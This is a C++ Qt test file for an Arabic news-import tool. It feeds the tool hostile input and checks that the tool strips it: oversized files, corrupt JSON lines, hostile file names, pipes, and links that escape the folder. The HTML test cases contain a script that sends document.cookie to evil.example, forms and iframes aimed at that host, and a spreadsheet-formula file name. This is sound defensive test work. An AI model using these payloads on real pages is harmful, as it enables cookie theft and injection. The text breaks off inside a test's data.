#include "csvreader.h"
#include "export/csv.h"
#include "export/exporter.h"
#include "export/xlsxexport.h"
#include "extract/incident.h"
#include "extract/incidentbuilder.h"
#include "extract/pipeline.h"
#include "extract/recognizer.h"
#include "store/importer.h"
#include "store/incidentwriter.h"
#include "store/reviewstore.h"
#include "store/workspace.h"
#include "testfiles.h"
#include "text/articlereader.h"
#include "text/textfold.h"
#include "workspacecheck.h"

#include <QBuffer>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QHash>
#include <QProcess>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QSet>
#include <QSqlError>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <cstring>
#include <fcntl.h>
#include <spawn.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

using namespace Qt::StringLiterals;
using namespace Rasid;

/*
 * Hostile and broken input, end to end through the model: what a scraper, a
 * crashed disk or a malicious page can put in front of Rasid. Each case states
 * what the analyst gets instead of a crash, a hang, a lost article or a
 * damaged workspace. (Deep HTML nesting, symbolic link loops and files that are
 * not workspaces have their own cases in articlereader_test, importer_test and
 * workspace_test.)
 */

namespace {

// Time bounds are hang guards for a Debug build; sanitizers slow it down further.
// Memory bounds grow too: AddressSanitizer keeps freed blocks in quarantine
// (256 MB by default) and an eighth more as shadow.
#if defined(__SANITIZE_ADDRESS__)
constexpr qint64 kSlowdown = 4;
constexpr qint64 kMemorySlack = 5;
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
constexpr qint64 kSlowdown = 4;
constexpr qint64 kMemorySlack = 5;
#else
constexpr qint64 kSlowdown = 1;
constexpr qint64 kMemorySlack = 1;
#endif
#else
constexpr qint64 kSlowdown = 1;
constexpr qint64 kMemorySlack = 1;
#endif

const QString kArticle = u"تعرضت وزارة الصحة في الأردن لهجوم إلكتروني أدى إلى تسريب بيانات نحو 300 ألف مريض.\n\n"
                         "وأكدت الوزارة أن فرقها الفنية تعمل على احتواء الحادث، وأن الخدمات عادت إلى العمل."_s;

// A distinct article: the import stores identical texts once.
QString article(int n)
{
    return u"خبر رقم %1 عن هجوم إلكتروني\n\n"_s.arg(n) + kArticle + u"\n\nتفاصيل إضافية رقم %1."_s.arg(n);
}

using TestFiles::readAll;
using TestFiles::writeFile;

using WorkspaceCheck::firstValue;

QStringList column(const Workspace &ws, const QString &sql)
{
    QStringList values;
    QSqlQuery query(ws.database());
    query.prepare(sql);
    if (query.exec()) {
        while (query.next()) {
            values.append(query.value(0).toString());
        }
    }
    return values;
}

// The peak resident memory of this process (VmHWM), in kB.
qint64 peakRssKb()
{
    const QByteArray status = readAll(u"/proc/self/status"_s);
    for (const QByteArray &line : status.split('\n')) {
        if (line.startsWith("VmHWM:")) {
            return line.mid(6).trimmed().split(' ').value(0).toLongLong();
        }
    }
    return -1;
}

// Resets VmHWM to the current size (Linux >= 4.0), so the next peak is this test's.
void resetPeakRss()
{
    QFile refs(u"/proc/self/clear_refs"_s);
    if (refs.open(QIODevice::WriteOnly)) {
        refs.write("5");
    }
}

// SQLite's and FTS5's own checks: nothing half-written anywhere.
void verifySound(const Workspace &ws)
{
    const QStringList broken = WorkspaceCheck::damage(ws);
    QVERIFY2(broken.isEmpty(), qPrintable(broken.join(u"; "_s)));
}

ImportSummary importFolder(Workspace &ws, const QString &folder, bool extract = false, int batchSize = 16)
{
    Importer importer;
    ImportOptions options;
    options.folder = folder;
    options.extract = extract;
    options.batchSize = batchSize;
    return importer.run(ws, options);
}


// The CSV export of a workspace as rows of cells, header first.
QVector<QStringList> exportedCsv(const Workspace &ws)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    QString error;
    ExportOptions options;
    options.status = StatusFilter::All;
    if (!exportCsv(ws, buffer, options, &error)) {
        qWarning() << error;
        return {};
    }
    return TestCsv::parseCsv(QString::fromUtf8(buffer.data()));
}

// One proposed incident with a victim, so that an article appears in exports.
bool addIncident(Workspace &ws, qint64 articleId, const QString &victim)
{
    ProposedIncident incident;
    incident.confidence = 0.5;
    incident.set(u"victim"_s, victim, 0.5);
    incident.set(u"attack_type"_s, u"data_breach"_s, 0.5);
    return ws.beginTransaction() && storeProposedIncidents(ws.database(), articleId, {incident}) && ws.commit();
}

qint64 addArticle(Workspace &ws, const QString &path, const QString &title, const QString &text)
{
    QSqlQuery file(ws.database());
    file.prepare(u"INSERT INTO files(path, status) VALUES (?, 'imported')"_s);
    file.addBindValue(path);
    if (!file.exec()) {
        return 0;
    }
    QSqlQuery insert(ws.database());
    insert.prepare(u"INSERT INTO articles(file_id, path, content_hash, title, text) VALUES (?, ?, ?, ?, ?)"_s);
    for (const QVariant &value :
         {file.lastInsertId(), QVariant(path), QVariant(path), QVariant(title), QVariant(text)}) {
        insert.addBindValue(value);
    }
    return insert.exec() ? insert.lastInsertId().toLongLong() : 0;
}

// Overwrites `length` bytes at `offset` with bytes from a fixed seed (or zeros).
bool damage(const QString &path, qint64 offset, qint64 length, bool zeros = false)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadWrite) || !file.seek(offset)) {
        return false;
    }
    QByteArray bytes(length, '\0');
    if (!zeros) {
        QRandomGenerator random(20240420);
        for (char &byte : bytes) {
            byte = char(random.bounded(256));
        }
    }
    return file.write(bytes) == length;
}

} // namespace

class HostileTest : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();

    void skipsAHugeFileWithoutReadingIt();
    void processesAOneMegabyteLine_data();
    void processesAOneMegabyteLine();
    void keepsOnlyTheTextOfHostileHtml_data();
    void keepsOnlyTheTextOfHostileHtml();
    void keepsGoodLinesAmongBrokenOnes();
    void keepsTextThatZeroBytesDamaged_data();
    void keepsTextThatZeroBytesDamaged();
    void storesHostileFileNamesExactly();
    void recordsFilesThatAreNotFiles_data();
    void recordsFilesThatAreNotFiles();
    void listsEveryFileOfAHugeFolderOfEmptyFiles();
    void neverReadsOutsideTheFolder_data();
    void neverReadsOutsideTheFolder();
    void survivesABindMountLoop();
    void recordsAnUnreadableFile();
    void importsBesideA200MegabyteFileInBoundedMemory();

    void fullWorkspaceKeepsEarlierBatchesAndRollsBackTheRest();
    void fullWorkspaceRejectsAnAnalystEditWhole();
    void refusesDamagedWorkspacesAndLeavesThemUntouched_data();
    void refusesDamagedWorkspacesAndLeavesThemUntouched();
    void cliRefusesDamagedWorkspacesAndLeavesThemUntouched_data();
    void cliRefusesDamagedWorkspacesAndLeavesThemUntouched();

    void neutralizesFormulaCells_data();
    void neutralizesFormulaCells();
    void neutralizesFormulaCellsInCsvAndXlsx();

private:
    // A workspace of `count` imported articles, closed, at `path`.
    bool buildWorkspace(const QString &path, const QString &folder, int count);
};

void HostileTest::initTestCase()
{
    // The shipped lexicons load once; measured peaks below are the tests' own.
    QVERIFY(Recognizer::instance().recognize(kArticle).size() > 0);
}

bool HostileTest::buildWorkspace(const QString &path, const QString &folder, int count)
{
    for (int i = 0; i < count; ++i) {
        if (!writeFile(folder + u"/a%1.txt"_s.arg(i, 3, 10, QChar(u'0')), article(i).repeated(3).toUtf8())) {
            return false;
        }
    }
    Workspace ws;
    if (!ws.open(path)) {
        return false;
    }
    const ImportSummary summary = importFolder(ws, folder, true);
    return summary.error.isEmpty() && summary.articles == count;
}

void HostileTest::skipsAHugeFileWithoutReadingIt()
{
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(writeFile(folder + u"/good.txt"_s, article(1).toUtf8()));
    for (const QString &name : {u"huge.txt"_s, u"huge.jsonl"_s, u"huge.html"_s}) {
        QFile huge(folder + u'/' + name);
        QVERIFY(huge.open(QIODevice::WriteOnly));
        QVERIFY(huge.resize(200LL * 1024 * 1024)); // sparse: costs no disk
    }
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    resetPeakRss();
    const qint64 before = peakRssKb();
    QElapsedTimer timer;
    timer.start();
    const ImportSummary summary = importFolder(ws, folder, true);
    const qint64 growthKb = peakRssKb() - before;
    qInfo("three 200 MB files: %lld ms, peak memory growth %lld kB", qint64(timer.elapsed()), growthKb);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QCOMPARE(summary.failed, 3);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 1);
    const QStringList reasons = column(ws, u"SELECT reason FROM problems WHERE path LIKE 'huge.%' ORDER BY path"_s);
    QCOMPARE(reasons.size(), 3);
    for (const QString &reason : reasons) {
        QVERIFY2(reason.contains(u"too large"_s) && reason.contains(u"200"_s), qPrintable(reason));
    }
    // Reading any one of them would have cost at least its 200 MB.
    QVERIFY2(before > 0 && growthKb < 100 * 1024, qPrintable(QString::number(growthKb)));
}

void HostileTest::processesAOneMegabyteLine_data()
{
    QTest::addColumn<SourceKind>("kind");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<bool>("keepsText");
    QTest::addColumn<bool>("proposes"); // also build incidents (slow: see below)
    constexpr qsizetype MB = 1024 * 1024;
    auto fill = [](const QString &unit) {
        const QByteArray utf8 = unit.toUtf8();
        return utf8.repeated(MB / utf8.size() + 1).left(MB);
    };
    const QByteArray words = fill(u"هجوم إلكتروني على وزارة المالية في تونس و"_s);
    QTest::newRow("Arabic words without a line break") << SourceKind::Text << words << true << true;
    QTest::newRow("one word of a megabyte") << SourceKind::Text << fill(u"ب"_s) << true << true;
    QTest::newRow("numbers and scales") << SourceKind::Text << fill(u"2 مليون و300 ألف و"_s) << true << false;
    QTest::newRow("dates") << SourceKind::Text << fill(u"يوم 20 أبريل 2024 و"_s) << true << false;
    QTest::newRow("punctuation only") << SourceKind::Text << fill(u"،.؟!"_s) << false << true;
    QTest::newRow("sentences without spaces") << SourceKind::Text << fill(u"اختراق.تسريب."_s) << true << true;
    QTest::newRow("Latin letters") << SourceKind::Text << fill(u"LockBit ransomware "_s) << true << false;
    QTest::newRow("HTML of one line")
        << SourceKind::Html << QByteArray("<html><body><p>") + words + QByteArray("</p></body></html>") << true
        << false;
    QTest::newRow("HTML attribute of a megabyte")
        << SourceKind::Html
        << QByteArray("<html><body><p title=\"") + fill(u"x"_s) + QByteArray("\">نص الخبر</p></body></html>")
        << true << true;
    QTest::newRow("JSON line of a megabyte")
        << SourceKind::JsonLines << QByteArray("{\"title\": \"عنوان\", \"text\": \"") + words + QByteArray("\"}\n")
        << true << false;
}

void HostileTest::processesAOneMegabyteLine()
{
    QFETCH(SourceKind, kind);
    QFETCH(QByteArray, bytes);
    QFETCH(bool, keepsText);
    QFETCH(bool, proposes);
    QElapsedTimer timer;
    timer.start();
    const ReadResult read = readArticle(kind, bytes);
    QVERIFY2(read.error.isEmpty(), qPrintable(read.error));
    QCOMPARE(read.articles.size(), 1);
    const qint64 readMs = timer.restart();
    const CleanedArticle cleaned = cleanArticle(read.articles.first());
    const qint64 cleanMs = timer.restart();
    const FoldedText folded = foldWithMap(cleaned.text);
    const EntityList entities = Recognizer::instance().recognize(cleaned.text, folded);
    const qint64 recognizeMs = timer.restart();
    qInfo("read %lld ms, clean %lld ms, fold and recognize %lld ms: %lld characters kept, %lld entities", readMs,
          cleanMs, recognizeMs, qint64(cleaned.text.size()), qint64(entities.size()));
    // Hang guards, not budgets (Debug build, a shared machine).
    const qint64 linearMs = readMs + cleanMs + recognizeMs;
    QVERIFY2(linearMs < 30000 * kSlowdown, qPrintable(QString::number(linearMs)));
    QCOMPARE(!cleaned.text.isEmpty(), keepsText);
    QVERIFY(!contentHash(cleaned.text).isEmpty() || !keepsText);
    if (proposes) {
        // The incident builder compares the seeds of a sentence pairwise; a line
        // without a full stop is cut into sentences of at most 2,000 characters,
        // so a megabyte of attack words costs about what the recognizer does
        // (it took a minute as one sentence).
        buildIncidents(cleaned.text, folded, entities, cleaned.title, cleaned.published);
        const qint64 buildMs = timer.elapsed();
        qInfo("build incidents %lld ms", buildMs);
        QVERIFY2(buildMs < 30000 * kSlowdown, qPrintable(QString::number(buildMs)));
    }
}

void HostileTest::keepsOnlyTheTextOfHostileHtml_data()
{
    QTest::addColumn<SourceKind>("kind");
    QTest::addColumn<QString>("page");
    QTest::addColumn<QString>("body");
    const QString html = u"<!doctype html><html><head><title>عنوان</title>%1</head><body>%2</body></html>"_s;
    QTest::newRow("scripts and event handlers")
        << SourceKind::Html
        << html.arg(u"<script>fetch('http://evil.example/?c='+document.cookie)</script>"_s,
                    u"<p onclick=\"alert('x')\" onmouseover=steal()>نص الخبر</p><script>var s='سر';</script>"
                    u"<SCRIPT type=\"text/javascript\">alert(2)</SCRIPT ><body onload=alert(3)>"_s)
        << u"نص الخبر"_s;
    QTest::newRow("remote image, stylesheet, object and embed")
        << SourceKind::Html
        << html.arg(u"<link rel=stylesheet href=http://evil.example/x.css><link rel=preload href=//evil.example/y>"_s,
                    u"<img src=\"http://evil.example/pixel.png\" onerror=\"alert(1)\" alt=\"صورة\">"
                    u"<object data=\"http://evil.example/x.swf\"><param name=movie value=x>بديل</object>"
                    u"<embed src=http://evil.example/y.swf><p>نص الخبر</p>"
                    u"<video src=http://evil.example/v.mp4 poster=http://evil.example/p.png>فيديو</video>"_s)
        << u"نص الخبر"_s;
    QTest::newRow("frames, srcdoc and forms")
        << SourceKind::Html
        << html.arg(QString(),
                    u"<iframe src=\"http://evil.example/\" srcdoc=\"<script>alert(1)</script>\"></iframe>"
                    u"<frameset><frame src=http://evil.example/f></frameset><noframes>إطارات</noframes>"
                    u"<p>نص الخبر</p><form action=http://evil.example/><input value=\"سري\">"
                    u"<button formaction=http://evil.example/>أرسل</button></form>"_s)
        << u"نص الخبر"_s;
    QTest::newRow("refresh, base and style urls")
        << SourceKind::Html
        << html.arg(u"<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">"
                    u"<base href=\"http://evil.example/\"><style>@import url(http://evil.example/s.css);</style>"_s,
                    u"<p style=\"background:url(http://evil.example/bg.png)\">نص الخبر</p>"_s)
        << u"نص الخبر"_s;
    QTest::newRow("javascript links keep their words only")
        << SourceKind::Html << html.arg(QString(), u"<p>نص <a href=\"javascript:alert(1)\">الخبر</a></p>"_s)
        << u"نص الخبر"_s;
    QTest::newRow("unterminated script swallows nothing before it")
        << SourceKind::Html << html.arg(QString(), u"<p>نص الخبر</p><script>alert('لا'); document.write('"_s)
        << u"نص الخبر"_s;
    QTest::newRow("comments, svg and math")
        << SourceKind::Html
        << html.arg(QString(),
                    u"<!-- <script>alert(1)</script> --><p>نص الخبر</p><svg><script>alert(2)</script>"
                    u"<foreignObject><p>مخفي</p></foreignObject></svg><math><mtext>رياضيات</mtext></math>"
                    u"<noscript><img src=http://evil.example/track.gif></noscript>"_s)
        << u"نص الخبر"_s;
    QTest::newRow("JSON-LD body that is markup")
        << SourceKind::Html
        << html.arg(u"<script type=\"application/ld+json\">{\"@type\": \"NewsArticle\", \"articleBody\": "
                    u"\"<script>alert(1)<\\/script><img src=http://evil.example/x.png><p>نص الخبر<\\/p>\"}</script>"_s,
                    QString())
        << u"نص الخبر"_s;
    QTest::newRow("JSON line whose text is markup")
        << SourceKind::JsonLines
        << u"{\"title\": \"عنوان\", \"text\": \"<img src=http://evil.example/x.png onerror=alert(1)>نص الخبر\"}\n"_s
        << u"نص الخبر"_s;
    QTest::newRow("JSON line with a script")
        << SourceKind::JsonLines
        << u"{\"title\": \"عنوان\", \"text\": \"<script>alert(1)</script>نص الخبر\"}\n"_s << u"نص الخبر"_s;
}

void HostileTest::keepsOnlyTheTextOfHostileHtml()
{
    QFETCH(SourceKind, kind);
    QFETCH(QString, page);
    QFETCH(QString, body);
    const ReadResult read = readArticle(kind, page.toUtf8());
    QVERIFY2(read.error.isEmpty(), qPrintable(read.error));
    QCOMPARE(read.articles.size(), 1);
    const RawArticle &raw = read.articles.first();
    QCOMPARE(raw.body, body);
    // Rasid has no network code at all (the model links no network module), so
    // nothing can be fetched; what matters is that no address or script text
    // reaches the article, its metadata or the cleaned text.
    const ProcessedArticle processed = processArticle(raw, &Recognizer::instance());
    for (const QString &text : {raw.body, raw.title, raw.outlet, raw.published, processed.cleaned.text}) {
        for (const QString &needle : {u"evil"_s, u"alert"_s, u"<"_s, u"script"_s, u"cookie"_s}) {
            QVERIFY2(!text.contains(needle, Qt::CaseInsensitive), qPrintable(text));
        }
    }
}

void HostileTest::keepsGoodLinesAmongBrokenOnes()
{
    auto good = [](int n) {
        return u"{\"title\": \"خبر %1\", \"url\": \"https://example.org/%1\", \"text\": \"%2\"}"_s.arg(n)
            .arg(article(n).replace(u"\n"_s, u"\\n"_s))
            .toUtf8();
    };
    QByteArray deep = QByteArray(100000, '[') + QByteArray(100000, ']');
    QByteArray garbage;
    QRandomGenerator random(7);
    for (int i = 0; i < 100; ++i) {
        garbage.append(char(random.bounded(1, 256)));
    }
    garbage.replace('\n', ' ').replace('\r', ' ');
    // Line numbers of the broken lines, each with what its problem must say.
    const QVector<std::pair<QByteArray, QString>> broken = {
        {"{\"title\": \"مقطوع\", \"text\": \"نص لم يكتمل", u"not valid JSON"_s},
        {"<html><body>502 Bad Gateway</body></html>", u"not valid JSON"_s},
        {garbage, u"not valid JSON"_s},
        {deep, u"not valid JSON"_s},
        {"[\"قائمة\", \"لا مقال\"]", u"not a JSON object"_s},
        {"\"نص وحده\"", u"not valid JSON"_s}, // QJsonDocument reads objects and arrays only
        {"null", u"not valid JSON"_s},
        {"{\"title\": \"بلا نص\"}", u"no article text"_s},
        {QByteArray("{\"title\": \"صفر\",") + '\0' + QByteArray(" \"text\": \"x\"}"), u"not valid JSON"_s},
    };
    QByteArray lines;
    QHash<int, QString> expected;
    int line = 0;
    int goodLines = 0;
    for (const auto &[bytes, reason] : broken) {
        lines += good(++line) + "\n";
        ++goodLines;
        lines += bytes + "\n";
        expected.insert(++line, reason);
    }
    lines += good(++line) + "\r\n"; // and a last line with CRLF
    ++goodLines;

    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(writeFile(folder + u"/feed.jsonl"_s, lines));
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    const ImportSummary summary = importFolder(ws, folder, true);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QCOMPARE(summary.failed, 0);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles WHERE path LIKE 'feed.jsonl#%'"_s).toInt(), goodLines);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles WHERE title LIKE 'خبر %'"_s).toInt(), goodLines);
    const QStringList problems = column(ws, u"SELECT reason FROM problems WHERE path = 'feed.jsonl' ORDER BY id"_s);
    QCOMPARE(problems.size(), expected.size());
    QCOMPARE(summary.problems, int(expected.size()));
    for (const QString &problem : problems) {
        const int number = problem.section(u' ', 1, 1).chopped(1).toInt();
        QVERIFY2(expected.contains(number), qPrintable(problem));
        QVERIFY2(problem.contains(expected.value(number)), qPrintable(problem));
        expected.remove(number);
    }
    QVERIFY(expected.isEmpty());
}

void HostileTest::keepsTextThatZeroBytesDamaged_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<int>("articles");
    const QByteArray text = article(1).toUtf8();
    QTest::newRow("text padded with zeros by an interrupted write")
        << u"padded.txt"_s << text + QByteArray(8192, '\0') << 1;
    QByteArray holed = article(2).repeated(10).toUtf8();
    holed.replace(holed.size() / 2, 3, QByteArray(3, '\0'));
    QTest::newRow("three zero bytes inside an article") << u"holed.txt"_s << holed << 1;
    QByteArray lines;
    for (int n = 1; n <= 6; ++n) {
        const QString text = article(n).replace(u"\n"_s, u"\\n"_s);
        lines += u"{\"title\": \"خبر %1\", \"text\": \"%2\"}\n"_s.arg(n).arg(text).toUtf8();
    }
    lines += "{\"title\": \"cut\", \"te" + QByteArray(4096, '\0');
    QTest::newRow("JSON lines cut off by zero padding") << u"feed.jsonl"_s << lines << 6;
}

void HostileTest::keepsTextThatZeroBytesDamaged()
{
    QFETCH(QString, name);
    QFETCH(QByteArray, bytes);
    QFETCH(int, articles);
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(writeFile(folder + u'/' + name, bytes));
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    const ImportSummary summary = importFolder(ws, folder);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QCOMPARE(summary.failed, 0);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), articles);
    // Flagged as lossy, and no zero byte reaches the stored text.
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles WHERE lossy = 1"_s).toInt(), articles);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles WHERE instr(text, char(0)) > 0"_s).toInt(), 0);
    QVERIFY(firstValue(ws, u"SELECT min(length(text)) FROM articles"_s).toInt() > 100);
}

void HostileTest::storesHostileFileNamesExactly()
{
    const QStringList names = {
        u"خبر عاجل عن الاختراق.txt"_s,
        u"it's a \"quoted\" name.txt"_s,
        u"line\nbreak.txt"_s,
        u"  spaces at both ends  .txt"_s,
        u"tab\there.txt"_s,
        u"=HYPERLINK(\"evil.example\").txt"_s,
        u"-minus, comma; semicolon.txt"_s,
        u"@at and back\\slash.txt"_s,
        u"hash#1 and 100%.txt"_s,
        u"مجلد فرعي/ملف \"مقتبس\"\n.md"_s,
        QString(u'ب').repeated(120) + u".txt"_s, // 244 bytes of UTF-8: near the limit of a name
    };
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    for (int i = 0; i < names.size(); ++i) {
        QVERIFY2(writeFile(folder + u'/' + names.at(i), article(i).toUtf8()), qPrintable(names.at(i)));
        // The same names, empty, must show in the problems with their exact path.
        QVERIFY(writeFile(folder + u"/empty/"_s + names.at(i), QByteArray()));
    }
    // A name that is not UTF-8 at all cannot even be spelled back to the system.
    const QByteArray rawName = QFile::encodeName(folder) + "/bad-\xff\xfe-name.txt";
    const int fd = ::open(rawName.constData(), O_CREAT | O_WRONLY, 0644);
    QVERIFY(fd >= 0);
    QVERIFY(::write(fd, "text", 4) == 4);
    ::close(fd);
    // QTemporaryDir cannot spell that name either.
    const auto removeRaw = qScopeGuard([&rawName] { ::unlink(rawName.constData()); });

    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    const ImportSummary summary = importFolder(ws, folder);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QCOMPARE(summary.imported, int(names.size()));
    QCOMPARE(summary.failed, int(names.size()) + 1);

    const QStringList stored = column(ws, u"SELECT path FROM articles ORDER BY path"_s);
    QStringList expected = names;
    expected.sort();
    QStringList sortedStored = stored;
    sortedStored.sort();
    QCOMPARE(sortedStored, expected);

    const QStringList problemPaths = column(ws, u"SELECT path FROM problems WHERE reason LIKE '%empty%'"_s);
    QCOMPARE(problemPaths.size(), names.size());
    for (const QString &name : names) {
        QVERIFY2(problemPaths.contains(u"empty/"_s + name), qPrintable(name));
    }
    const QString badReason =
        firstValue(ws, u"SELECT reason FROM problems WHERE path LIKE 'bad-%-name.txt'"_s).toString();
    QVERIFY2(badReason.contains(u"name"_s), qPrintable(badReason));

    // Every path comes back from the CSV exactly, formula signs neutralized.
    QSqlQuery ids(ws.database());
    QVERIFY(ids.exec(u"SELECT id, path FROM articles"_s));
    QHash<qint64, QString> pathOf;
    while (ids.next()) {
        pathOf.insert(ids.value(0).toLongLong(), ids.value(1).toString());
    }
    ids.finish();
    for (auto it = pathOf.cbegin(); it != pathOf.cend(); ++it) {
        QVERIFY(addIncident(ws, it.key(), u"وزارة الصحة"_s));
    }
    const QVector<QStringList> rows = exportedCsv(ws);
    QCOMPARE(rows.size(), names.size() + 1);
    const qsizetype articleColumn = rows.first().indexOf(u"article"_s);
    QStringList exported;
    for (qsizetype r = 1; r < rows.size(); ++r) {
        QCOMPARE(rows.at(r).size(), rows.first().size());
        exported.append(rows.at(r).at(articleColumn));
    }
    for (const QString &name : names) {
        const QString shown = neutralizeFormula(name);
        QVERIFY2(exported.contains(shown), qPrintable(shown));
        if (shown != name) {
            QVERIFY(shown.startsWith(u'\''));
        }
    }
}

void HostileTest::recordsFilesThatAreNotFiles_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("reasonPart");
    QTest::newRow("named pipe") << u"fifo"_s << u"not a regular file"_s;
    QTest::newRow("link to itself") << u"self link"_s << u"link"_s;
    QTest::newRow("two links pointing at each other") << u"link loop"_s << u"link"_s;
    QTest::newRow("link to a missing file") << u"dangling"_s << u"does not exist"_s;
    QTest::newRow("socket") << u"socket"_s << u"not a regular file"_s;
    QTest::newRow("device node") << u"device"_s << u"not a regular file"_s;
    QTest::newRow("link to a device outside") << u"dev null"_s << u"links outside the folder"_s;
}

void HostileTest::recordsFilesThatAreNotFiles()
{
    QFETCH(QString, kind);
    QFETCH(QString, reasonPart);
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(writeFile(folder + u"/good.txt"_s, article(1).toUtf8()));
    const QString path = folder + u"/odd.txt"_s;
    if (kind == u"fifo") {
        QCOMPARE(::mkfifo(QFile::encodeName(path).constData(), 0644), 0);
    } else if (kind == u"self link") {
        QVERIFY(QFile::link(path, path));
    } else if (kind == u"link loop") {
        QVERIFY(QFile::link(folder + u"/other.txt"_s, path));
        QVERIFY(QFile::link(path, folder + u"/other.txt"_s));
    } else if (kind == u"socket") {
        const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
        QVERIFY(fd >= 0);
        const auto closeSocket = qScopeGuard([fd] { ::close(fd); });
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        const QByteArray name = QFile::encodeName(path);
        if (name.size() >= qsizetype(sizeof(address.sun_path))) {
            QSKIP("the temporary folder's path is too long for a socket");
        }
        std::memcpy(address.sun_path, name.constData(), name.size() + 1);
        QCOMPARE(::bind(fd, reinterpret_cast<const sockaddr *>(&address), sizeof(address)), 0);
    } else if (kind == u"device") {
        // The character device of /dev/null (1, 3); only root may make one, and
        // a container may refuse even root.
        if (::mknod(QFile::encodeName(path).constData(), S_IFCHR | 0644, makedev(1, 3)) != 0) {
            QSKIP("this process cannot make a device node (not root, or a container forbids it)");
        }
    } else if (kind == u"dev null") {
        QVERIFY(QFile::link(u"/dev/null"_s, path));
    } else {
        QVERIFY(QFile::link(folder + u"/missing.txt"_s, path));
    }
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    QElapsedTimer timer;
    timer.start();
    const ImportSummary summary = importFolder(ws, folder);
    QVERIFY(timer.elapsed() < 30000 * kSlowdown); // a pipe is never opened: opening it would block
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM articles"_s).toInt(), 1);
    const QString reason = firstValue(ws, u"SELECT reason FROM problems WHERE path = 'odd.txt'"_s).toString();
    QVERIFY2(reason.contains(reasonPart), qPrintable(reason));
}

void HostileTest::listsEveryFileOfAHugeFolderOfEmptyFiles()
{
    constexpr int Files = 100000;
    QTemporaryDir dir;
    const QString folder = dir.filePath(u"articles"_s);
    QVERIFY(QDir().mkpath(folder));
    const QByteArray base = QFile::encodeName(folder);
    QElapsedTimer timer;
    timer.start();
    for (int i = 0; i < Files; ++i) {
        const QByteArray name = base + "/empty" + QByteArray::number(i) + ".txt";
        const int fd = ::open(name.constData(), O_CREAT | O_WRONLY, 0644);
        QVERIFY(fd >= 0);
        ::close(fd);
    }
    const qint64 createMs = timer.restart();
    Workspace ws;
    QVERIFY(ws.open(dir.filePath(u"w.rasid"_s)));
    resetPeakRss();
    const qint64 before = peakRssKb();
    Importer importer;
    int progressReports = 0;
    connect(&importer, &Importer::progress, this, [&progressReports] { ++progressReports; });
    ImportOptions options;
    options.folder = folder;
    const ImportSummary summary = importer.run(ws, options);
    const qint64 importMs = timer.elapsed();
    const qint64 growthKb = peakRssKb() - before;
    qInfo("%d empty files: created in %lld ms, imported in %lld ms, peak memory growth %lld kB", Files, createMs,
          importMs, growthKb);
    QVERIFY2(summary.error.isEmpty(), qPrintable(summary.error));
    QCOMPARE(summary.filesSeen, Files);
    QCOMPARE(summary.failed, Files);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM problems"_s).toInt(), Files);
    QCOMPARE(firstValue(ws, u"SELECT count(*) FROM problems WHERE reason = 'empty file'"_s).toInt(), Files);
    QCOMPARE(firstValue(ws, u"SELECT count(DISTINCT path) FROM problems"_s).toInt(), Files);
    QVERIFY(progressReports > 1);
    // Bounds, not budgets: Debug build on a shared two-core machine.
    QVERIFY2(importMs < 60000 * kSlowdown, qPrintable(QString::number(importMs)));
    QVERIFY2(growthKb < 200 * 1024 * kMemorySlack, qPrintable(QString::number(growthKb)));
}

void HostileTest::neverReadsOutsideTheFolder_data()
{
    // What the folder holds besides good.txt, as "link name -> target" (a
    // target under "outside/" is a folder beside the imported one), and the
    // entry whose problem must say it links outside.
    QTest::addColumn<QStringList>("links");
    QTest::addColumn<QString>("reported");
    QTest::newRow("link to a file outside") << QStringList{u"passwd.txt -> outside/secret.txt"_s} << u"passwd.txt"_s;
    QTest::newRow("relative link with ..") << QStringList{u"up.txt -> ../outside/secret.txt"_s} << u"up.txt"_s;
    QTest::newRow("link to a link outside")
        << QStringList{u"a.txt -> b.txt"_s, u"b.txt -> outside/secret.txt"_s} << u"a.txt"_s;
    QTest::newRow("linked folder outside") << QStringList{u"sub -> outside"_s} << u"sub"_s;
